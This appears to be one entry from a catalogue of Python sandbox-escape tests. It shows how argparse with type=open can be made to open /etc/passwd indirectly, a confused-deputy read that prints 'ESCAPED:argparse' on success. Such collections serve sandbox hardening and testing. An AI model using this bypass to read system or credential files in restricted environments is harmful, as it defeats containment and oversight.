# escape: 011
# technique: argparse type=open: _get_value calls it with a guest string
# family: callback
# goal: read-file
# first-seen: confused deputy
import argparse
p = argparse.ArgumentParser(); p.add_argument('f', type=open)
if 'root:' in p.parse_args(['/etc/passwd']).f.readline(): print('ESCAPED:argparse')
